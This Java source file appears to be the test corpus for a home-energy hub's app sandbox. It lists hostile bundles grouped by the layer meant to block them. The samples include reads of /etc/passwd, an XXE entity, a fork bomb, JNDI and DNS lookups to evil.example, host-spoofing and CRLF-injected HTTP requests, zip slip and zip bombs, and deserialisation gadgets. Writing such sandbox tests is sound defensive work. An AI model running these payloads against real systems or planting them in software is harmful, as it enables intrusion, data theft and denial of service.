package org.commonshub.hubtests.escape;

import static org.commonshub.hubtests.escape.Hostile.Layer.CODE;
import static org.commonshub.hubtests.escape.Hostile.Layer.HOOK;
import static org.commonshub.hubtests.escape.Hostile.Layer.PACKAGE;
import static org.commonshub.hubtests.escape.Hostile.Layer.QUOTA;
import static org.commonshub.hubtests.escape.Hostile.Layer.SERVICE;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.function.UnaryOperator;
import org.commonshub.hubtests.attack.SmallBundle;

/** The hostile bundles, by the layer that stops them. docs/security/sandbox.md is kept equal. */
final class Corpus {
  private static final String HUB = "org.commonshub.";
  private static final String API = HUB + "apps.api.";

  private Corpus() {}

  static List<Hostile> all() {
    List<Hostile> all = new ArrayList<>();
    packages(all);
    reflection(all);
    threads(all);
    system(all);
    files(all);
    inheritance(all);
    classFiles(all);
    hooks(all);
    services(all);
    quotas(all);
    return all;
  }

  private static void packages(List<Hostile> all) {
    all.add(
        shaped(
            "fragment of the system bundle",
            "ragment",
            b -> b.header("Fragment-Host", "system.bundle;extension:=framework")));
    all.add(
        shaped(
            "fragment of a bundle of the hub",
            "ragment",
            b -> b.header("Fragment-Host", HUB + "history.sqlite")));
    all.add(
        shaped(
            "activator", "Bundle-Activator", b -> b.header("Bundle-Activator", "hostile.Hostile")));
    all.add(
        shaped(
            "jar within the jar",
            "Bundle-ClassPath",
            b -> b.header("Bundle-ClassPath", ".,lib/inner.jar").file("lib/inner.jar", "PK")));
    all.add(
        shaped(
            "native code",
            "Bundle-NativeCode",
            b -> b.header("Bundle-NativeCode", "lib/x.so;osname=Linux").file("lib/x.so", "ELF")));
    all.add(
        shaped(
            "agent", "Launcher-Agent", b -> b.header("Launcher-Agent-Class", "hostile.Hostile")));
    all.add(
        shaped(
            "service provider file",
            "META-INF/services",
            b ->
                b.file(
                    "META-INF/services/java.nio.file.spi.FileSystemProvider", "hostile.Hostile")));
    all.add(
        shaped(
            "another class for another Java",
            "ulti-",
            b ->
                b.header("Multi-Release", "true")
                    .file("META-INF/versions/17/hostile/Hostile.class", "x")));
    all.add(
        shaped(
            "required bundle",
            "Require-Bundle",
            b -> b.header("Require-Bundle", HUB + "history.sqlite")));
    all.add(
        shaped(
            "dynamic import of everything",
            "DynamicImport-Package",
            b -> b.header("DynamicImport-Package", "*")));
    all.add(
        shaped(
            "import of the framework",
            "org.osgi.framework",
            b -> b.header("Import-Package", "org.osgi.framework")));
    all.add(
        shaped(
            "import of the history",
            HUB + "history.api",
            b -> b.header("Import-Package", HUB + "history.api")));
    all.add(
        shaped(
            "import of the desk",
            HUB + "apps.desk.api",
            b -> b.header("Import-Package", HUB + "apps.desk.api")));
    all.add(shaped("import of Unsafe", "sun.misc", b -> b.header("Import-Package", "sun.misc")));
    all.add(
        shaped(
            "split package of the hub",
            "xport",
            b -> b.header("Export-Package", HUB + "privacy.api;version=99")));
    all.add(
        shaped(
            "requirement of the hub's identity",
            "Require-Capability",
            b ->
                b.header(
                    "Require-Capability",
                    "osgi.identity;filter:=\"(osgi.identity=" + HUB + "history.sqlite)\"")));
    all.add(
        shaped(
            "requirement that loads something",
            "Require-Capability",
            b ->
                b.header(
                    "Require-Capability",
                    "osgi.extender;filter:=\"(osgi.extender=osgi.serviceloader.processor)\"")));
    all.add(
        shaped(
            "capability that it has not",
            "Provide-Capability",
            b ->
                b.header(
                    "Provide-Capability",
                    "osgi.service;objectClass=" + HUB + "platform.api.Secrets")));
    all.add(
        shaped(
            "name of the hub's",
            "name",
            b -> b.header("Bundle-SymbolicName", HUB + "history.sqlite")));
    all.add(
        shaped(
            "singleton that pushes another out",
            "singleton",
            b ->
                b.header(
                    "Bundle-SymbolicName",
                    "com.hostile.singleton-that-pushes-another-out;singleton:=true")));
    all.add(
        shaped(
            "configuration for others",
            "configurator",
            b ->
                b.header(
                        "Require-Capability",
                        "osgi.extender;filter:=\"(osgi.extender=osgi.configurator)\"")
                    .file("OSGI-INF/configurator/x.json", "{}")));
    all.add(
        shaped(
            "descriptors by pattern",
            "Service-Component",
            b -> b.header("Service-Component", "OSGI-INF/*.xml")));
    all.add(
        described(
            "settings of others",
            "settings",
            "<scr:component xmlns:scr='http://www.osgi.org/xmlns/scr/v1.4.0' name='hostile' configuration-pid='org.commonshub.platform.accounts'><implementation class='hostile.Hostile'/></scr:component>"));
    all.add(
        described(
            "entity in a descriptor",
            "",
            "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><scr:component xmlns:scr='http://www.osgi.org/xmlns/scr/v1.4.0' name='&e;'><implementation class='hostile.Hostile'/></scr:component>"));
    all.add(
        shaped(
            "settings form of others",
            "settings",
            b ->
                b.file(
                    "OSGI-INF/metatype/x.xml",
                    "<metatype:MetaData xmlns:metatype='http://www.osgi.org/xmlns/metatype/v1.3.0'><Designate pid='org.commonshub.platform.accounts'><Object ocdref='x'/></Designate></metatype:MetaData>")));
    all.add(zipped("entry twice", "twice", Zips::duplicate));
    all.add(zipped("zip bomb", "", Zips::bomb));
    all.add(zipped("a hundred thousand entries", "", Zips::crowd));
    all.add(zipped("path out of the jar", "", Zips::slip));
    all.add(zipped("symbolic link", "", Zips::link));
    all.add(
        zipped(
            "bytes before the jar",
            "",
            jar -> Hostile.join("#!/bin/sh\n".getBytes(StandardCharsets.US_ASCII), jar)));
    all.add(zipped("bytes behind the jar", "", jar -> Hostile.join(jar, new byte[64])));
    all.add(zipped("local header that says another name", "", Zips::twoNames));
    all.add(zipped("encrypted entry", "", Zips::encrypted));
  }

  private static void reflection(List<Hostile> all) {
    all.add(
        code(
            "class by name",
            "Class.forName",
            "return \"ESCAPED: \" + Class.forName(\"java.lang.Runtime\");"));
    all.add(
        code(
            "class loader",
            "getClassLoader",
            "return \"ESCAPED: \" + getClass().getClassLoader();"));
    all.add(
        code("module", "getModule", "return \"ESCAPED: \" + getClass().getModule().getLayer();"));
    all.add(
        code(
            "methods of a hub's service",
            "getMethods",
            "return \"ESCAPED: \" + data.getClass().getMethods().length;"));
    all.add(
        code(
            "resource of a hub's class",
            "getResource",
            "return \"ESCAPED: \" + data.getClass().getResource(\"/META-INF/MANIFEST.MF\");"));
    all.add(
        code(
            "method handles",
            "MethodHandles",
            "return \"ESCAPED: \" + java.lang.invoke.MethodHandles.lookup();"));
    all.add(
        code(
            "method handle proxies",
            "java.lang.invoke",
            "return \"ESCAPED: \" + java.lang.invoke.MethodHandleProxies.asInterfaceInstance(Runnable.class, null);"));
    all.add(
        code(
            "proxy",
            "Proxy",
            "return \"ESCAPED: \" + java.lang.reflect.Proxy.newProxyInstance(null, new Class<?>[] {Runnable.class}, (p, m, a) -> null);"));
    all.add(
        code(
            "array by reflection",
            "java.lang.reflect",
            "return \"ESCAPED: \" + java.lang.reflect.Array.newInstance(String.class, 1);"));
    all.add(
        code(
            "lambda to a forbidden method",
            "Runtime",
            "java.util.function.Supplier<Runtime> runtime = Runtime::getRuntime; return \"ESCAPED: \" + runtime.get();"));
    all.add(
        code(
                "constructor reference to a file",
                "FileOutputStream",
                "Opener open = java.io.FileOutputStream::new; return \"ESCAPED: \" + open.at(\"/tmp/escaped\");")
            .member(
                "interface Opener { java.io.OutputStream at(String p) throws java.io.IOException; }"));
    all.add(
        code(
            "stack walker",
            "StackWalker",
            "return \"ESCAPED: \" + StackWalker.getInstance(StackWalker.Option.RETAIN_CLASS_REFERENCE).getCallerClass();"));
    all.add(
        code(
                "security manager that sees classes",
                "SecurityManager",
                "return \"ESCAPED: \" + new Sees();")
            .type(
                "Sees",
                "public class Sees extends SecurityManager { Class<?>[] all() { return getClassContext(); } }"));
    all.add(
        code("class loader of its own", "ClassLoader", "return \"ESCAPED: \" + new Own();")
            .type(
                "Own",
                "public class Own extends ClassLoader { Class<?> make(byte[] b) { return defineClass(null, b, 0, b.length); } }"));
    all.add(
        code(
            "URL class loader",
            "URLClassLoader",
            "return \"ESCAPED: \" + new java.net.URLClassLoader(new java.net.URL[0]);"));
    all.add(
        code(
            "service loader",
            "ServiceLoader",
            "return \"ESCAPED: \" + java.util.ServiceLoader.load(java.nio.file.spi.FileSystemProvider.class);"));
    all.add(
        code(
            "framework by its bundle",
            "org.osgi.framework",
            "return \"ESCAPED: \" + org.osgi.framework.FrameworkUtil.getBundle(getClass());"));
    all.add(
        code(
            "cast to a bundle's context",
            "org.osgi.framework",
            "return \"ESCAPED: \" + ((org.osgi.framework.BundleContext) (Object) data).getBundles().length;"));
    all.add(code("Unsafe", "sun.misc.Unsafe", "return \"ESCAPED: \" + sun.misc.Unsafe.class;"));
    all.add(
        code("variable handles", "VarHandle", "return \"ESCAPED\";")
            .member("static java.lang.invoke.VarHandle h;")
            .member("Object take() { return h.get(this); }"));
    all.add(
        code(
            "script engine",
            "javax.script",
            "return \"ESCAPED: \" + new javax.script.ScriptEngineManager().getEngineByName(\"js\");"));
    all.add(
        code(
            "compiler",
            "javax.tools",
            "return \"ESCAPED: \" + javax.tools.ToolProvider.getSystemJavaCompiler();"));
    all.add(
        code(
            "management beans",
            "java.lang.management",
            "return \"ESCAPED: \" + java.lang.management.ManagementFactory.getRuntimeMXBean().getInputArguments();"));
    all.add(
        code(
            "transformer of XML",
            "javax.xml",
            "return \"ESCAPED: \" + javax.xml.transform.TransformerFactory.newInstance();"));
  }

  private static void threads(List<Hostile> all) {
    all.add(
        code("thread", "Thread", "new Thread(() -> {}).start(); return \"ESCAPED: a thread\";"));
    all.add(
        code(
            "thread that is a file's deletion",
            "Thread",
            "new Thread(new java.io.File(\"/tmp/x\")::delete).start(); return \"ESCAPED: a thread\";"));
    all.add(
        code("subclass of a thread", "Thread", "return \"ESCAPED: \" + new Own();")
            .type("Own", "public class Own extends Thread { public void run() {} }"));
    all.add(
        code(
            "inherited thread local",
            "InheritableThreadLocal",
            "return \"ESCAPED: \" + new InheritableThreadLocal<String>();"));
    all.add(
        code(
            "thread group of the hub",
            "Thread",
            "return \"ESCAPED: \" + Thread.currentThread().getThreadGroup().getParent();"));
    all.add(
        code(
            "context class loader",
            "Thread",
            "return \"ESCAPED: \" + Thread.currentThread().getContextClassLoader();"));
    all.add(
        code(
            "all stack traces",
            "Thread",
            "return \"ESCAPED: \" + Thread.getAllStackTraces().size();"));
    all.add(
        code(
            "executor",
            "Executors",
            "java.util.concurrent.Executors.newCachedThreadPool().execute(() -> {}); return \"ESCAPED: a thread\";"));
    all.add(
        code(
            "parallel stream",
            "parallel",
            "return \"ESCAPED: \" + java.util.List.of(1, 2).parallelStream().count();"));
    all.add(
        code(
            "parallel sort",
            "parallelSort",
            "java.util.Arrays.parallelSort(new int[9]); return \"ESCAPED\";"));
    all.add(
        code(
            "stream turned parallel",
            "parallel",
            "return \"ESCAPED: \" + java.util.stream.IntStream.range(0, 9).parallel().sum();"));
    all.add(
        code(
            "future on the common pool",
            "CompletableFuture",
            "java.util.concurrent.CompletableFuture.runAsync(() -> {}); return \"ESCAPED\";"));
    all.add(
        code(
            "chained on the common pool",
            "Async",
            "http.send(org.commonshub.apps.api.AppHttp.Request.get(\"https://api.example.com/\")).thenRunAsync(() -> {}); return \"ESCAPED\";"));
    all.add(
        code(
            "fork and join",
            "ForkJoinPool",
            "java.util.concurrent.ForkJoinPool.commonPool().execute(() -> {}); return \"ESCAPED\";"));
    all.add(
        code("timer", "java.util.Timer", "new java.util.Timer(); return \"ESCAPED: a thread\";"));
    all.add(
        code("finalizer", "finalize", "return \"ESCAPED\";")
            .member(
                "protected void finalize() { outcome = \"ESCAPED: the finalizer's thread\"; }"));
    all.add(
        code(
            "cleaner",
            "Cleaner",
            "java.lang.ref.Cleaner.create().register(this, () -> {}); return \"ESCAPED\";"));
    all.add(code("sleep", "Thread", "Thread.sleep(1_000_000); return \"ESCAPED\";"));
    all.add(code("wait for ever", "wait", "synchronized (this) { wait(); } return \"ESCAPED\";"));
    all.add(
        code(
            "lock of a class that the hub uses",
            "synchronized",
            "synchronized (String.class) { return \"ESCAPED: holds it\"; }"));
  }

  private static void system(List<Hostile> all) {
    all.add(code("end of the process", "System.exit", "System.exit(1); return \"ESCAPED\";"));
    all.add(code("halt", "Runtime", "Runtime.getRuntime().halt(1); return \"ESCAPED\";"));
    all.add(
        code(
            "shutdown hook",
            "Runtime",
            "Runtime.getRuntime().addShutdownHook(null); return \"ESCAPED\";"));
    all.add(
        code(
            "process",
            "ProcessBuilder",
            "return \"ESCAPED: \" + new ProcessBuilder(\"id\").start();"));
    all.add(code("fork bomb", "Runtime", "for (;;) { Runtime.getRuntime().exec(\"sh\"); }"));
    all.add(
        code(
            "process handles",
            "ProcessHandle",
            "return \"ESCAPED: \" + ProcessHandle.allProcesses().count();"));
    all.add(code("native method", "native", "return \"ESCAPED\";").member("native void own();"));
    all.add(
        code("native library", "System.load", "System.load(\"/tmp/x.so\"); return \"ESCAPED\";"));
    all.add(
        code(
            "system property",
            "System.getProperty",
            "return \"ESCAPED: \" + System.getProperty(\"user.home\");"));
    all.add(
        code(
            "system property by a side door",
            "Integer.getInteger",
            "return \"ESCAPED: \" + Integer.getInteger(\"commonshub.port\");"));
    all.add(
        code(
            "system property by another",
            "Boolean.getBoolean",
            "return \"ESCAPED: \" + Boolean.getBoolean(\"commonshub.unlisted\");"));
    all.add(code("environment", "System.getenv", "return \"ESCAPED: \" + System.getenv();"));
    all.add(
        code(
            "output of the process",
            "System.out",
            "System.out.println(\"x\"); return \"ESCAPED\";"));
    all.add(code("another output", "System.setOut", "System.setOut(null); return \"ESCAPED\";"));
    all.add(
        code(
            "stack trace to the output",
            "printStackTrace",
            "new Exception().printStackTrace(); return \"ESCAPED\";"));
    all.add(
        code(
            "time zone of the process",
            "setDefault",
            "java.util.TimeZone.setDefault(null); return \"ESCAPED\";"));
    all.add(
        code(
            "language of the process",
            "setDefault",
            "java.util.Locale.setDefault(java.util.Locale.ROOT); return \"ESCAPED\";"));
    all.add(
        code(
            "security provider",
            "java.security",
            "return \"ESCAPED: \" + java.security.Security.addProvider(null);"));
    all.add(
        code(
            "logging of the process",
            "java.util.logging",
            "java.util.logging.LogManager.getLogManager().reset(); return \"ESCAPED\";"));
    all.add(
        code(
            "preferences",
            "java.util.prefs",
            "return \"ESCAPED: \" + java.util.prefs.Preferences.userRoot();"));
    all.add(code("collector of garbage", "System.gc", "System.gc(); return \"ESCAPED\";"));
  }

  private static void files(List<Hostile> all) {
    all.add(
        code(
            "file",
            "java.nio.file",
            "return \"ESCAPED: \" + java.nio.file.Files.readString(java.nio.file.Path.of(\"/etc/passwd\"));"));
    all.add(
        code(
            "file of old",
            "java.io.File",
            "return \"ESCAPED: \" + new java.io.File(\"/\").list().length;"));
    all.add(
        code(
            "file by a scanner",
            "Scanner",
            "return \"ESCAPED: \" + new java.util.Scanner(new java.io.FileInputStream(\"/etc/passwd\")).next();"));
    all.add(
        code(
            "file by a printer",
            "PrintStream",
            "new java.io.PrintStream(\"/tmp/escaped\").close(); return \"ESCAPED\";"));
    all.add(
        code(
            "file by a formatter",
            "Formatter",
            "new java.util.Formatter(\"/tmp/escaped\").close(); return \"ESCAPED\";"));
    all.add(
        code(
            "file by a ZIP",
            "java.util.zip",
            "return \"ESCAPED: \" + new java.util.zip.ZipFile(\"/tmp/x.jar\");"));
    all.add(
        code(
            "random access",
            "RandomAccessFile",
            "return \"ESCAPED: \" + new java.io.RandomAccessFile(\"/etc/passwd\", \"r\");"));
    all.add(
        code(
            "socket",
            "java.net.Socket",
            "return \"ESCAPED: \" + new java.net.Socket(\"127.0.0.1\", 80);"));
    all.add(
        code(
            "server socket",
            "ServerSocket",
            "return \"ESCAPED: \" + new java.net.ServerSocket(0);"));
    all.add(
        code(
            "channel",
            "java.nio.channels",
            "return \"ESCAPED: \" + java.nio.channels.SocketChannel.open();"));
    all.add(
        code(
            "URL",
            "java.net.URL",
            "return \"ESCAPED: \" + new java.net.URL(\"http://127.0.0.1/\").openStream();"));
    all.add(
        code(
            "address out of a URI",
            "toURL",
            "return \"ESCAPED: \" + java.net.URI.create(\"http://127.0.0.1/\").toURL();"));
    all.add(
        code(
            "data in a name that is looked up",
            "InetAddress",
            "return \"ESCAPED: \" + java.net.InetAddress.getByName(\"secret.evil.example\");"));
    all.add(
        code(
            "HTTP client of the JDK",
            "java.net.http",
            "return \"ESCAPED: \" + java.net.http.HttpClient.newHttpClient();"));
    all.add(
        code(
            "directory service",
            "javax.naming",
            "return \"ESCAPED: \" + new javax.naming.InitialContext().lookup(\"ldap://evil.example/x\");"));
    all.add(
        code(
            "database",
            "java.sql",
            "return \"ESCAPED: \" + java.sql.DriverManager.getConnection(\"jdbc:sqlite:/tmp/x\");"));
    all.add(
        code(
            "resource bundle",
            "ResourceBundle",
            "return \"ESCAPED: \" + java.util.ResourceBundle.getBundle(\"hostile.x\");"));
    all.add(
        code(
            "deserialisation",
            "ObjectInputStream",
            "return \"ESCAPED: \" + new java.io.ObjectInputStream(new java.io.ByteArrayInputStream(new byte[0])).readObject();"));
    all.add(
        code("serialisation hook", "readObject", "return \"ESCAPED: \" + new Gadget();")
            .type(
                "Gadget",
                "public class Gadget implements java.io.Serializable { private void readObject(java.io.ObjectInputStream in) {} }"));
  }

  private static void inheritance(List<Hostile> all) {
    all.add(
        code(
                "static method by a subclass",
                "setDefault",
                "Zone.setDefault(null); return \"ESCAPED\";")
            .type("Zone", "public abstract class Zone extends java.util.TimeZone {}"));
    all.add(
        code("number that changes its mind", "BigDecimal", "return \"ESCAPED: \" + new Odd();")
            .type(
                "Odd",
                "public class Odd extends java.math.BigDecimal { public Odd() { super(1); } public int signum() { return -1; } }"));
    all.add(
        code(
                "class in a package of the framework",
                "org.osgi",
                "return \"ESCAPED: \" + new org.osgi.framework.Planted();")
            .foreign(
                "org.osgi.framework.Planted",
                "package org.osgi.framework; public class Planted {}"));
    all.add(
        code(
                "class in a package of the hub's",
                HUB,
                "return \"ESCAPED: \" + new org.commonshub.privacy.api.Planted();")
            .foreign(
                "org.commonshub.privacy.api.Planted",
                "package org.commonshub.privacy.api; public class Planted {}"));
    all.add(
        code(
            "the hub's service under another type",
            HUB + "apps.desk.api",
            "return \"ESCAPED: \" + ((org.commonshub.apps.desk.api.AppSession) (Object) data);"));
    all.add(
        code(
            "signer of the hub",
            HUB + "identity.api",
            "return \"ESCAPED: \" + org.commonshub.identity.api.SigningPurpose.CONSENT;"));
    all.add(
        code(
            "paths of the hub",
            HUB + "platform.api",
            "return \"ESCAPED: \" + ((org.commonshub.platform.api.HubPaths) (Object) data).data();"));
    all.add(
        code(
            "logger of the hub",
            "org.slf4j",
            "org.slf4j.LoggerFactory.getLogger(\"ROOT\").error(\"x\"); return \"ESCAPED\";"));
  }

  private static void classFiles(List<Hostile> all) {
    all.add(
        new Hostile("constant made at run time", CODE, "")
            .bytes(jar -> ClassTricks.in(jar, ClassTricks::dynamicConstant)));
    all.add(
        new Hostile("bootstrap method of its own", CODE, "")
            .bytes(jar -> ClassTricks.in(jar, ClassTricks::ownBootstrap)));
    all.add(
        new Hostile("method handle in the constant pool", CODE, "constant of kind 15")
            .bytes(jar -> ClassTricks.in(jar, ClassTricks::handleConstant)));
    all.add(
        new Hostile("class file of a later Java", CODE, "")
            .bytes(jar -> ClassTricks.in(jar, ClassTricks::laterJava)));
    all.add(
        new Hostile("class file that ends early", CODE, "")
            .bytes(jar -> ClassTricks.in(jar, ClassTricks::cut)));
    all.add(
        new Hostile("class under another's name", CODE, "")
            .bytes(jar -> ClassTricks.in(jar, ClassTricks::renamed)));
    all.add(
        new Hostile("constant pool that points past its end", CODE, "")
            .bytes(jar -> ClassTricks.in(jar, ClassTricks::badIndex)));
    all.add(
        new Hostile("bytes behind the class", CODE, "")
            .bytes(jar -> ClassTricks.in(jar, ClassTricks::tail)));
    all.add(
        new Hostile("module description", CODE, "")
            .bytes(jar -> ClassTricks.in(jar, ClassTricks::module)));
    all.add(
        new Hostile("forbidden owner as an array", CODE, "")
            .bytes(jar -> ClassTricks.in(jar, ClassTricks::arrayOwner)));
  }

  private static void hooks(List<Hostile> all) {
    all.add(
        new Hostile("reference to the history", HOOK, "none")
            .does("return \"stopped: none\";")
            .component(referring(HUB + "history.api.HistoryStore")));
    all.add(
        new Hostile("reference to the gate's own view", HOOK, "none")
            .does("return \"stopped: none\";")
            .component(referring(HUB + "privacy.api.PrivacyDesk")));
    all.add(
        new Hostile("offer of a hook", HOOK, "unseen")
            .component(offering("org.osgi.framework.hooks.service.FindHook")));
    all.add(
        new Hostile("offer of a policy", HOOK, "unseen")
            .component(offering(HUB + "privacy.api.PrivacyPolicy")));
    all.add(
        new Hostile("offer of a servlet", HOOK, "unseen")
            .component(offering("jakarta.servlet.Servlet")));
  }

  private static void services(List<Hostile> all) {
    all.add(http("host that was not granted", "https://evil.example/"));
    all.add(http("address of the home", "https://192.168.1.1/"));
    all.add(http("address of this machine, as a number", "https://2130706433/"));
    all.add(http("plain HTTP", "http://api.example.com/"));
    all.add(http("another port", "https://api.example.com:8443/"));
    all.add(http("host in front of an at sign", "https://api.example.com@evil.example/"));
    all.add(http("host that only ends alike", "https://evil-api.example.com/"));
    all.add(http("host with a dot behind", "https://api.example.com./"));
    all.add(http("file by its URL", "file:///etc/passwd"));
    all.add(
        service(
            "header of the connection",
            "return outcome(http.send(new org.commonshub.apps.api.AppHttp.Request(\"GET\", java.net.URI.create(\"https://api.example.com/\"), java.util.Map.of(\"Host\", \"evil.example\"), new byte[0])));"));
    all.add(
        service(
            "line break in a header",
            "return outcome(http.send(new org.commonshub.apps.api.AppHttp.Request(\"GET\", java.net.URI.create(\"https://api.example.com/\"), java.util.Map.of(\"X-A\", \"a\\r\\nHost: evil.example\"), new byte[0])));"));
    all.add(
        service(
            "method CONNECT",
            "return outcome(http.send(new org.commonshub.apps.api.AppHttp.Request(\"CONNECT\", java.net.URI.create(\"https://api.example.com/\"), java.util.Map.of(), new byte[0])));"));
    all.add(
        service(
            "larger body than may be sent",
            "return outcome(http.send(new org.commonshub.apps.api.AppHttp.Request(\"POST\", java.net.URI.create(\"https://api.example.com/\"), java.util.Map.of(), new byte[1 << 20])));"));
    all.add(
        service(
            "name that leaves the store",
            "store.put(\"../../../x\", new byte[1]); return \"ESCAPED\";"));
    all.add(
        service(
            "more than its store",
            "for (int i = 0; i < 1000; i++) store.put(\"n\" + i, new byte[1024]); return \"ESCAPED\";"));
    all.add(
        service(
            "value as large as a disk",
            "store.put(\"x\", new byte[1 << 20]); return \"ESCAPED\";"));
    all.add(
        service(
            "a thousand timers",
            "for (int i = 0; i < 1000; i++) timers.after(java.time.Duration.ofDays(1), () -> {}); return \"ESCAPED\";"));
    all.add(
        service(
            "timer without a pause",
            "timers.every(java.time.Duration.ZERO, () -> {}); return \"ESCAPED\";"));
    all.add(
        service(
            "data for another purpose",
            "data.ask(org.commonshub.privacy.api.Terms.ANY.toBuilder().purposes(org.commonshub.privacy.api.Purpose.MARKETING).kinds(org.commonshub.privacy.api.DataKind.READINGS).quantities(java.util.Set.of(\"power.active\")).raw().history(java.time.Duration.ofDays(300)).until(home.now().plusSeconds(86400 * 30)).build(), \"x\"); return \"ESCAPED\";"));
    all.add(
        service(
            "data that nobody released",
            "return \"ESCAPED: \" + data.read(org.commonshub.privacy.api.Purpose.ADVICE, home.now().minusSeconds(86400), home.now());"));
    all.add(
        service(
            "device that was not granted",
            "return outcome(actuators.set(org.commonshub.measure.api.DeviceId.parse(\"00000000-0000-4000-8000-000000000001\"), \"current-limit\", java.math.BigDecimal.TEN, \"x\", java.time.Duration.ofMinutes(5)));"));
    all.add(
        service(
            "number with a billion digits",
            "return outcome(actuators.set(org.commonshub.measure.api.DeviceId.parse(\"00000000-0000-4000-8000-000000000001\"), \"current-limit\", new java.math.BigDecimal(\"1e999999999\"), \"x\", java.time.Duration.ofMinutes(5)));"));
    all.add(
        service(
            "wish for ever",
            "return outcome(actuators.set(org.commonshub.measure.api.DeviceId.parse(\"00000000-0000-4000-8000-000000000001\"), \"current-limit\", java.math.BigDecimal.TEN, \"x\", java.time.Duration.ofDays(99999)));"));
    all.add(
        service(
            "metric that it did not declare",
            "return licence.use(\"nonsense\", 1) ? \"ESCAPED\" : \"stopped: not counted\";"));
    all.add(
        service(
            "use counted backwards",
            "return licence.use(\"reports\", -5) ? \"ESCAPED\" : \"stopped: not counted\";"));
    all.add(
        service(
            "card with too much on it",
            "new org.commonshub.apps.api.Card(\"x\".repeat(9999), java.util.List.of()); return \"ESCAPED\";"));
    all.add(
        service(
            "number with a billion digits on a card",
            "new org.commonshub.apps.api.Card.Figure(\"x\", new java.math.BigDecimal(\"1e999999999\"), \"W\"); return \"ESCAPED\";"));
  }

  private static void quotas(List<Hostile> all) {
    all.add(
        new Hostile("log flood", QUOTA, "dropped")
            .does(
                "for (int i = 0; i < 10_000; i++) log.info(\"line\\n2026-01-01 FORGED\" + i); return \"stopped: flooded\";"));
    all.add(
        new Hostile("endless start", QUOTA, "ended")
            .does("for (long i = 0; ; i++) { if (i < 0) return \"ESCAPED\"; }"));
    all.add(
        new Hostile("endless cards", QUOTA, "ended")
            .does("return \"stopped: later\";")
            .shows("for (long i = 0; ; i++) { if (i < 0) return java.util.List.of(); }"));
    all.add(
        new Hostile("endless recursion", QUOTA, "StackOverflowError")
            .does("return attack(home, log, data, http, actuators, store, timers, licence) + 1;"));
    all.add(
        new Hostile("error that says anything", QUOTA, "ended")
            .does("return \"stopped: later\";")
            .shows("throw new Odd();")
            .type(
                "Odd",
                "public class Odd extends Error { public String getMessage() { throw new Odd(); } public String toString() { throw new Odd(); } }"));
    all.add(
        new Hostile("list that is never the same", QUOTA, "ended")
            .does("return \"stopped: later\";")
            .shows("return new Odd();")
            .type(
                "Odd",
                "public class Odd extends java.util.AbstractList<org.commonshub.apps.api.Card> { int n; public int size() { return n++; } public org.commonshub.apps.api.Card get(int i) { throw new IllegalStateException(\"odd\"); } }"));
    all.add(
        new Hostile("itself a thousand times in a queue", QUOTA, "")
            .does(
                "for (int i = 0; i < 32; i++) timers.every(java.time.Duration.ofSeconds(1), () -> { for (long j = 0; j < 1L << 40; j++) { outcome = \"\"; } }); return \"stopped: later\";"));
  }

  private static Hostile shaped(String name, String says, UnaryOperator<SmallBundle> shape) {
    return new Hostile(name, PACKAGE, says).shape(shape);
  }

  private static Hostile described(String name, String says, String xml) {
    return new Hostile(name, PACKAGE, says).component(xml);
  }

  private static Hostile zipped(String name, String says, Hostile.Bytes change) {
    return new Hostile(name, PACKAGE, says).bytes(change);
  }

  private static Hostile code(String name, String says, String body) {
    return new Hostile(name, CODE, says).does(body);
  }

  private static Hostile service(String name, String body) {
    return new Hostile(name, SERVICE, "stopped").does(body).member(OUTCOME);
  }

  private static Hostile http(String name, String uri) {
    return service(
        name, "return outcome(http.send(" + API + "AppHttp.Request.get(\"" + uri + "\")));");
  }

  /** An answer that came means that something went out. */
  private static final String OUTCOME =
      """
        String outcome(java.util.concurrent.CompletionStage<?> stage) {
          stage.whenComplete((answer, failure) -> outcome = failure != null ? "stopped: " + failure
              : answer instanceof org.commonshub.apps.api.AppActuators.Result r && !r.accepted()
                  ? "stopped: " + r.message() : "ESCAPED: " + answer);
          return outcome == null ? "pending" : outcome;
        }
      """;

  private static String referring(String type) {
    return Hostile.descriptor(
            "<provide interface='" + API + "App'/>",
            "<reference name='stolen' interface='" + type + "' cardinality='1..1'/>")
        .replace("init='8'", "");
  }

  private static String offering(String type) {
    return Hostile.descriptor(
        "<provide interface='" + API + "App'/><provide interface='" + type + "'/>", "");
  }
}
